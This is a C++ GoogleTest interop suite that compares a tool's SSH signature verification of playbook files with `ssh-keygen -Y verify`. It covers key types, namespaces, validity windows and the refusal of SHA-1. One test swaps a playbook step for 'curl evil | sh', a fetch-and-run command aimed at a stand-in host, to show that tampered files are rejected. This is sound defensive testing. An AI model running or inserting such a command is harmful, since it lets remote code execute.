// Interop with the real ssh-keygen: for every case both breakglass and `ssh-keygen -Y verify`
// judge the same files, and must agree. Runs under TZ=America/New_York so local valid-after and
// valid-before times differ from UTC.

#include "playbooks/digest.hpp"
#include "playbooks/signature_trust.hpp"
#include "playbooks/ssh_wire.hpp"
#include "playbooks/sshsig.hpp"

#include <algorithm>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <sys/wait.h>
#include <tuple>

#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <openssl/pem.h>

namespace fs = std::filesystem;
using namespace breakglass::playbooks;

namespace {

constexpr const char* k_namespace = "breakglass-playbook";
constexpr const char* k_principal = "alice@example.com";

std::string read(const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream bytes;
    bytes << in.rdbuf();
    return bytes.str();
}

void write(const fs::path& path, const std::string& bytes) {
    std::ofstream(path, std::ios::binary) << bytes;
}

std::string quote(const fs::path& path) {
    return "'" + path.string() + "'";
}

/// Runs a shell command, its output sent to `log`; returns its exit status (-1 if it died).
int run(const std::string& command, const fs::path& log) {
    const int status = std::system((command + " >>" + quote(log) + " 2>&1").c_str());
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

/// A directory under /tmp removed with everything in it when the owner goes.
class TempDir {
public:
    TempDir() {
        std::string pattern = (fs::temp_directory_path() / "breakglass-sig-XXXXXX").string();
        if (mkdtemp(pattern.data()) == nullptr) {
            throw std::runtime_error("mkdtemp failed");
        }
        m_path = pattern;
    }
    TempDir(const TempDir&) = delete;
    TempDir& operator=(const TempDir&) = delete;
    ~TempDir() {
        std::error_code ignored;
        fs::remove_all(m_path, ignored);
    }
    const fs::path& path() const { return m_path; }

private:
    fs::path m_path;
};

enum class Key { ed25519, ecdsa, rsa };

const char* key_name(Key key) {
    switch (key) {
    case Key::ed25519:
        return "ed25519";
    case Key::ecdsa:
        return "ecdsa";
    case Key::rsa:
        return "rsa";
    }
    return "";
}

/// "keytype base64" of a generated key.
std::string public_key(const fs::path& keys, const std::string& name) {
    std::istringstream line(read(keys / (name + ".pub")));
    std::string type;
    std::string encoded;
    line >> type >> encoded;
    return type + " " + encoded;
}

/// What one verifier concluded.
struct Verdict {
    bool accepted = false;
    std::string detail;
};

class SignatureInterop : public ::testing::TestWithParam<std::tuple<Key, const char*>> {
public:
    static void SetUpTestSuite() {
        setenv("TZ", "America/New_York", 1);
        tzset();
        // Made once at build time (tests/integration/CMakeLists.txt): ctest runs every test in a
        // process of its own, and an RSA-3072 key takes a while to generate.
        for (const char* name : {"ed25519", "ecdsa", "rsa", "other"}) {
            ASSERT_TRUE(fs::exists(s_keys / name)) << s_keys / name;
        }
    }

protected:
    void SetUp() override {
        m_file = m_dir.path() / "playbook.json";
        // A well-formed playbook: `breakglass playbook verify` also checks the format.
        write(m_file,
              R"json({"apiVersion":"breakglass/v1","kind":"Playbook",)json"
              R"json("metadata":{"name":"drain-node","version":1,"description":"x"},)json"
              R"json("issued_at":"2020-01-01T00:00:00Z","expires":"2099-01-01T00:00:00Z",)json"
              R"json("scope":{"clusters":["interop"]},"params":{},)json"
              R"json("steps":[{"name":"stop","run":"crictl stopp $(crictl ps -q)",)json"
              R"json("timeout":"30s","mutates":true,"become":true}]})json"
              "\n");
        m_signature = sign(m_file, k_namespace);
    }

    Key key() const { return std::get<0>(GetParam()); }
    std::string hash() const { return std::get<1>(GetParam()); }
    std::string key_line() const { return public_key(s_keys, key_name(key())); }
    fs::path log() const { return m_dir.path() / "commands.log"; }

    /// Signs `file` with this test's key and hash; returns the .sig path.
    fs::path sign(const fs::path& file, const std::string& name_space) {
        fs::remove(fs::path(file.string() + ".sig"));
        const std::string command = "ssh-keygen -q -Y sign -n " + name_space +
                                    " -O hashalg=" + hash() + " -f " +
                                    quote(s_keys / key_name(key())) + " " + quote(file);
        EXPECT_EQ(run(command, log()), 0) << read(log());
        return file.string() + ".sig";
    }

    /// Both verdicts on `file` + `signature` for `allowed_signers`, asking for `principal` at
    /// `verify_time` (ssh-keygen's YYYYMMDDHHMMSSZ form; empty for now).
    std::pair<Verdict, Verdict> judge(const std::string& allowed_signers, const fs::path& signature,
                                      const std::string& principal,
                                      const std::string& verify_time = "") {
        const fs::path allowed = m_dir.path() / "allowed_signers";
        write(allowed, allowed_signers);
        Verdict reference;
        reference.accepted = run("ssh-keygen -Y verify -f " + quote(allowed) + " -I " + principal +
                                     " -n " + k_namespace + " -s " + quote(signature) +
                                     (verify_time.empty() ? "" : " -Overify-time=" + verify_time) +
                                     " < " + quote(m_file),
                                 log()) == 0;
        reference.detail = read(log());

        TrustQuery query;
        query.principal = principal;
        if (!verify_time.empty()) {
            query.now = std::chrono::system_clock::time_point(
                std::chrono::seconds(utc_seconds(verify_time)));
        }
        auto ours = verify_signature(read(m_file), read(signature),
                                     std::string_view(allowed_signers), query);
        Verdict breakglass{ours.has_value(), ours ? ours->principal
                                                  : std::string(to_string(ours.error().kind)) +
                                                        ": " + ours.error().message};
        m_last_refusal = ours ? std::nullopt : std::optional<RefusalKind>(ours.error().kind);
        return {reference, breakglass};
    }

    /// YYYYMMDDHHMMSSZ as seconds since the epoch.
    static std::int64_t utc_seconds(const std::string& text) {
        std::tm tm{};
        tm.tm_year = std::stoi(text.substr(0, 4)) - 1900;
        tm.tm_mon = std::stoi(text.substr(4, 2)) - 1;
        tm.tm_mday = std::stoi(text.substr(6, 2));
        tm.tm_hour = std::stoi(text.substr(8, 2));
        tm.tm_min = std::stoi(text.substr(10, 2));
        tm.tm_sec = std::stoi(text.substr(12, 2));
        return static_cast<std::int64_t>(timegm(&tm));
    }

    /// Both accept, or both refuse with breakglass giving `kind`.
    void expect_agreement(const std::string& allowed_signers, const fs::path& signature,
                          bool accepted, std::optional<RefusalKind> kind = std::nullopt,
                          const std::string& principal = k_principal,
                          const std::string& verify_time = "") {
        auto [reference, breakglass] = judge(allowed_signers, signature, principal, verify_time);
        EXPECT_EQ(reference.accepted, accepted) << "ssh-keygen: " << reference.detail;
        EXPECT_EQ(breakglass.accepted, accepted) << "breakglass: " << breakglass.detail;
        if (kind) {
            EXPECT_EQ(m_last_refusal, kind) << breakglass.detail;
        }
    }

    /// The real binary's exit status for `breakglass playbook verify`.
    int breakglass_binary(const fs::path& file, const fs::path& signature,
                          const std::string& allowed_signers) {
        const fs::path allowed = m_dir.path() / "allowed_signers";
        write(allowed, allowed_signers);
        // Its own state dir and no inventory: only the signature and the format decide here.
        return run(std::string(BREAKGLASS_BINARY) + " --state-dir " +
                       quote(m_dir.path() / "state") + " playbook verify " + quote(file) +
                       " --signature " + quote(signature) + " --allowed-signers " + quote(allowed),
                   log());
    }

    static inline const fs::path s_keys = BREAKGLASS_INTEROP_KEYS;
    TempDir m_dir;
    fs::path m_file;
    fs::path m_signature;
    std::optional<RefusalKind> m_last_refusal;
};

} // namespace

TEST_P(SignatureInterop, GoodSignature) {
    expect_agreement(std::string(k_principal) + " " + key_line() + "\n", m_signature, true);
    // Without a principal breakglass reports what `ssh-keygen -Y find-principals` prints.
    const fs::path allowed = m_dir.path() / "allowed_signers";
    write(allowed, "\"*@example.com,!mallory@*\" " + key_line() + "\n");
    const fs::path found = m_dir.path() / "found";
    ASSERT_EQ(run("{ ssh-keygen -Y find-principals -f " + quote(allowed) + " -s " +
                      quote(m_signature) + " > " + quote(found) + "; }",
                  log()),
              0);
    auto ours = verify_signature(read(m_file), read(m_signature), read(allowed));
    ASSERT_TRUE(ours) << ours.error().message;
    // ssh-keygen prints the matching line's principals one per line; breakglass keeps the list.
    std::string listed = ours->principal + "\n";
    std::replace(listed.begin(), listed.end(), ',', '\n');
    EXPECT_EQ(listed, read(found));
    EXPECT_EQ(ours->hash_algorithm, hash());
}

TEST_P(SignatureInterop, FileWithOneByteChanged) {
    std::string bytes = read(m_file);
    bytes[bytes.size() / 2] = static_cast<char>(bytes[bytes.size() / 2] ^ 0x01);
    write(m_file, bytes);
    expect_agreement(std::string(k_principal) + " " + key_line(), m_signature, false,
                     RefusalKind::bad_signature);
}

TEST_P(SignatureInterop, SignatureWithOneByteChanged) {
    SshSignature parsed = parse_sshsig(read(m_signature)).value();
    // A byte inside the raw signature (the blob's last field), away from its length prefix.
    parsed.signature[parsed.signature.size() - 10] ^= 0x04;
    const fs::path changed = m_dir.path() / "changed.sig";
    write(changed, armor_sshsig(parsed));
    expect_agreement(std::string(k_principal) + " " + key_line(), changed, false,
                     RefusalKind::bad_signature);
}

TEST_P(SignatureInterop, WrongNamespace) {
    const fs::path other = sign(m_file, "file");
    expect_agreement(std::string(k_principal) + " " + key_line(), other, false,
                     RefusalKind::namespace_);
}

TEST_P(SignatureInterop, SignerMissingFromAllowedSigners) {
    expect_agreement(std::string(k_principal) + " " + public_key(s_keys, "other") + "\n",
                     m_signature, false, RefusalKind::unknown_signer);
}

TEST_P(SignatureInterop, PrincipalPatternNotMatching) {
    expect_agreement("*@ops.example.com " + key_line(), m_signature, false,
                     RefusalKind::unknown_signer);
    expect_agreement("*@example.com,!alice@* " + key_line(), m_signature, false,
                     RefusalKind::unknown_signer);
    expect_agreement("bob@example.com,?lice@example.* " + key_line(), m_signature, true);
}

TEST_P(SignatureInterop, ValidityWindowsWithAndWithoutZ) {
    const std::string key = key_line();
    const std::string alice = std::string(k_principal) + " ";
    for (const char* zone : {"", "Z"}) {
        const std::string z = zone;
        expect_agreement(alice + "valid-before=\"20200101" + z + "\" " + key, m_signature, false,
                         RefusalKind::expired_key);
        expect_agreement(alice + "valid-after=\"20990101" + z + "\" " + key, m_signature, false,
                         RefusalKind::not_yet_valid);
        expect_agreement(alice + "valid-after=\"20200101" + z + "\",valid-before=\"20990101" + z +
                             "\" " + key,
                         m_signature, true);
    }
    // At the edges, with a fixed verify time: local times are America/New_York standard time,
    // even in July (ssh-keygen never applies daylight saving to them).
    const std::string july = alice + "valid-after=\"20260701\" " + key;
    expect_agreement(july, m_signature, false, RefusalKind::not_yet_valid, k_principal,
                     "20260701045959Z");
    expect_agreement(july, m_signature, true, std::nullopt, k_principal, "20260701050000Z");
    const std::string until = alice + "valid-before=\"202601011200\" " + key;
    expect_agreement(until, m_signature, true, std::nullopt, k_principal, "20260101170000Z");
    expect_agreement(until, m_signature, false, RefusalKind::expired_key, k_principal,
                     "20260101170001Z");
    const std::string until_z = alice + "valid-before=\"202601011200Z\" " + key;
    expect_agreement(until_z, m_signature, false, RefusalKind::expired_key, k_principal,
                     "20260101120001Z");
}

TEST_P(SignatureInterop, NamespacesExcludingOurs) {
    const std::string alice = std::string(k_principal) + " ";
    expect_agreement(alice + "namespaces=\"file,git\" " + key_line(), m_signature, false,
                     RefusalKind::namespace_);
    expect_agreement(alice + "namespaces=\"*,!breakglass-*\" " + key_line(), m_signature, false,
                     RefusalKind::namespace_);
    expect_agreement(alice + "namespaces=\"git,breakglass-*\" " + key_line(), m_signature, true);
}

// Deliberate disagreement: ssh-keygen skips an allowed_signers line it cannot read (an
// unquoted time, cert-authority with a plain key) and goes on; breakglass refuses the file, so
// a typo cannot silently drop the restrictions that line meant to add.
TEST_P(SignatureInterop, UnreadableLineRefusesTheWholeFile) {
    const std::string good = std::string(k_principal) + " " + key_line() + "\n";
    for (const std::string& bad : {std::string(k_principal) + " valid-before=20200101 ",
                                   std::string(k_principal) + " cert-authority "}) {
        auto [reference, breakglass] =
            judge(bad + key_line() + "\n" + good, m_signature, k_principal);
        EXPECT_TRUE(reference.accepted) << reference.detail;
        EXPECT_FALSE(breakglass.accepted);
        EXPECT_EQ(m_last_refusal, RefusalKind::malformed) << breakglass.detail;
        EXPECT_NE(breakglass.detail.find("line 1"), std::string::npos) << breakglass.detail;
    }
}

TEST_P(SignatureInterop, TheBinaryAgrees) {
    const std::string allowed = std::string(k_principal) + " " + key_line() + "\n";
    EXPECT_EQ(breakglass_binary(m_file, m_signature, allowed), 0) << read(log());
    EXPECT_EQ(breakglass_binary(m_file, m_signature, "bob " + public_key(s_keys, "other")), 5);
    EXPECT_EQ(breakglass_binary(m_dir.path() / "missing.json", m_signature, allowed), 5);
    std::string tampered = read(m_file);
    tampered.replace(tampered.find("crictl stopp"), 12, "curl evil | sh");
    write(m_file, tampered); // still a well-formed playbook: only the signature refuses it
    EXPECT_EQ(breakglass_binary(m_file, m_signature, allowed), 5);
}

/// RSA only: OpenSSH 9.2 will not make an "ssh-rsa" (SHA-1) SSHSIG, so the test makes one.
class RsaSha1Interop : public SignatureInterop {
protected:
    /// The test's signature re-signed with PKCS#1 v1.5 SHA-1 and named "ssh-rsa".
    fs::path sha1_signature() {
        SshSignature parsed = parse_sshsig(read(m_signature)).value();
        const std::string data =
            sshsig_signed_data(parsed, digest(parsed.hash_algorithm, read(m_file)).value());
        const std::string pem = read(s_keys / "rsa");
        std::unique_ptr<BIO, decltype(&BIO_free)> bio(BIO_new_mem_buf(pem.data(), int(pem.size())),
                                                      BIO_free);
        std::unique_ptr<EVP_PKEY, decltype(&EVP_PKEY_free)> key(
            PEM_read_bio_PrivateKey(bio.get(), nullptr, nullptr, nullptr), EVP_PKEY_free);
        std::unique_ptr<EVP_MD_CTX, decltype(&EVP_MD_CTX_free)> context(EVP_MD_CTX_new(),
                                                                        EVP_MD_CTX_free);
        EXPECT_TRUE(key && context);
        std::string raw(512, '\0');
        std::size_t size = raw.size();
        EXPECT_EQ(EVP_DigestSignInit(context.get(), nullptr, EVP_sha1(), nullptr, key.get()), 1);
        EXPECT_EQ(EVP_DigestSign(context.get(), reinterpret_cast<unsigned char*>(raw.data()), &size,
                                 reinterpret_cast<const unsigned char*>(data.data()), data.size()),
                  1);
        raw.resize(size);
        // A genuine SHA-1 signature, so only its algorithm can be the reason it is refused.
        std::unique_ptr<EVP_MD_CTX, decltype(&EVP_MD_CTX_free)> check(EVP_MD_CTX_new(),
                                                                      EVP_MD_CTX_free);
        EXPECT_EQ(EVP_DigestVerifyInit(check.get(), nullptr, EVP_sha1(), nullptr, key.get()), 1);
        EXPECT_EQ(EVP_DigestVerify(check.get(), reinterpret_cast<unsigned char*>(raw.data()),
                                   raw.size(), reinterpret_cast<const unsigned char*>(data.data()),
                                   data.size()),
                  1);
        parsed.signature = WireWriter().string("ssh-rsa").string(raw).bytes();
        const fs::path path = m_dir.path() / "sha1.sig";
        write(path, armor_sshsig(parsed));
        return path;
    }
};

TEST_P(RsaSha1Interop, SshRsaSha1SignatureRefused) {
    const std::string allowed = std::string(k_principal) + " " + key_line() + "\n";
    const fs::path sha1 = sha1_signature();
    // ssh-keygen 9.2 refuses it too ("unsupported RSA signature algorithm ssh-rsa"); were a
    // future ssh-keygen to accept it, breakglass must still refuse, so only our verdict is binding.
    auto [reference, breakglass] = judge(allowed, sha1, k_principal);
    EXPECT_FALSE(reference.accepted)
        << "ssh-keygen now accepts ssh-rsa SHA-1: " << reference.detail;
    EXPECT_FALSE(breakglass.accepted) << breakglass.detail;
    EXPECT_EQ(m_last_refusal, RefusalKind::unsupported) << breakglass.detail;
    EXPECT_NE(reference.detail.find("unsupported RSA signature algorithm ssh-rsa"),
              std::string::npos)
        << reference.detail;
    EXPECT_EQ(breakglass_binary(m_file, sha1, allowed), 5);
}

INSTANTIATE_TEST_SUITE_P(RsaHashes, RsaSha1Interop,
                         ::testing::Combine(::testing::Values(Key::rsa),
                                            ::testing::Values("sha512", "sha256")),
                         [](const ::testing::TestParamInfo<SignatureInterop::ParamType>& param) {
                             return std::string("rsa_") + std::get<1>(param.param);
                         });

INSTANTIATE_TEST_SUITE_P(KeysAndHashes, SignatureInterop,
                         ::testing::Combine(::testing::Values(Key::ed25519, Key::ecdsa, Key::rsa),
                                            ::testing::Values("sha512", "sha256")),
                         [](const ::testing::TestParamInfo<SignatureInterop::ParamType>& param) {
                             return std::string(key_name(std::get<0>(param.param))) + "_" +
                                    std::get<1>(param.param);
                         });
